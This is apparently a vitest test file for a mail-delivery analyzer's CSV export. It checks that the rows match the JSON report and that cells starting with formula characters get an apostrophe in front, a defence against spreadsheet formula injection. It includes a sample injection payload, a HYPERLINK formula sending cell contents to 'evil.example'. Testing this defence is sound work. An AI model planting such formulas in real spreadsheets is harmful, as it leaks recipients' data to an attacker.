/**
 * `--format csv`: one row per failed delivery for Excel. Read back through csv-parse, it gives the
 * same failures as the JSON report (per cause, per recipient), the same values as the trace
 * (accents, quotes, line breaks in subjects), and no cell a spreadsheet would run as a formula.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, spreadsheetSafe } from '../src/render/csv.js';
import { runCli } from './helpers/cli.js';
import { sample, tempDir } from './helpers/files.js';
import { FORMULAS, HOSTILE, writeHostileTrace } from './helpers/hostile-trace.js';

const tmp = tempDir();

function readCsv(text: string): Array<Record<string, string>> {
  expect(text.startsWith('\uFEFF')).toBe(true);
  return parse(text, { bom: true, columns: true, relax_column_count: false }) as Array<Record<string, string>>;
}

/** What a cell says once the neutralizing apostrophe is taken off (Excel hides it). */
const shown = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);

describe('the CSV of failed deliveries', () => {
  it('has one row per failed delivery, with the cause counts of the JSON report', () => {
    const files = [sample('extended-report-utf16le-bom.csv'), sample('extended-report-unicode-text-tab.csv')];
    const csv = runCli(['analyze', ...files, '--format', 'csv']);
    expect(csv.status).toBe(0);
    const report = JSON.parse(runCli(['analyze', ...files, '--format', 'json']).stdout);
    const rows = readCsv(csv.stdout);
    expect(Object.keys(rows[0]!)).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(report.totals.failed);
    const perCause: Record<string, number> = {};
    for (const r of rows) perCause[r.cause_id!] = (perCause[r.cause_id!] ?? 0) + 1;
    expect(perCause).toEqual(
      Object.fromEntries(report.causes.map((c: { id: string; count: number }) => [c.id, c.count])),
    );
    // each cause's title, owner and fix as the report gives them, and every example of the report among the rows
    for (const c of report.causes) {
      const mine = rows.filter((r) => r.cause_id === c.id);
      expect(new Set(mine.map((r) => r.cause_title))).toEqual(new Set([c.title]));
      expect(new Set(mine.map((r) => r.owner))).toEqual(new Set([c.owner]));
      for (const ex of c.examples) {
        const row = mine.find((r) => r.failure_text === ex.text);
        expect(row, ex.text).toBeDefined();
        expect(row).toMatchObject({ recipient: ex.recipient, source: ex.source, line: String(ex.line) });
        if (ex.sender) expect(shown(row!.sender!)).toBe(ex.sender);
        if (ex.subject) expect(shown(row!.subject!)).toBe(ex.subject);
      }
    }
    // a sample's subject is a formula: kept as text
    expect(rows.some((r) => r.subject === "'+SUM(1,2) budget")).toBe(true);
    // subjects keep their accents, quotes and line breaks
    expect(rows.some((r) => r.subject === 'Invoice 4471, "final" version, please sign')).toBe(true);
    expect(rows.some((r) => r.subject === 'Board pack\nDraft 2 – confidential')).toBe(true);
    // rows in time order
    const times = rows.map((r) => r.time).filter(Boolean);
    expect([...times].sort()).toEqual(times);
  });

  it('starts no cell with a formula, and reads back to the values of the trace', () => {
    const trace = writeHostileTrace(tmp.dir);
    const r = runCli(['analyze', trace.path, '--format', 'csv']);
    expect(r.status).toBe(0);
    const rows = readCsv(r.stdout);
    expect(rows).toHaveLength(trace.failed);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // the formulas are there, as text: Excel shows them without the apostrophe
    const subjects = rows.map((row) => shown(row.subject!));
    for (const f of FORMULAS) expect(subjects).toContain(f);
    for (const h of HOSTILE) expect(subjects).toContain(h);
    expect(rows.find((row) => row.subject === '\'=HYPERLINK("http://evil.example/?"&A1,"x")')).toBeDefined();
    expect(rows.every((row) => row.sending_ip === '' || row.sending_ip === '192.0.2.44')).toBe(true);
  });

  it('neutralizes exactly the OWASP starts', () => {
    for (const s of ['=1', '+1', '-1', '@x', '\tx', '\rx']) expect(spreadsheetSafe(s)).toBe(`'${s}`);
    for (const s of ['', 'a=1', ' =1', "'=1", '1-2', 'x@y']) expect(spreadsheetSafe(s)).toBe(s);
  });
});
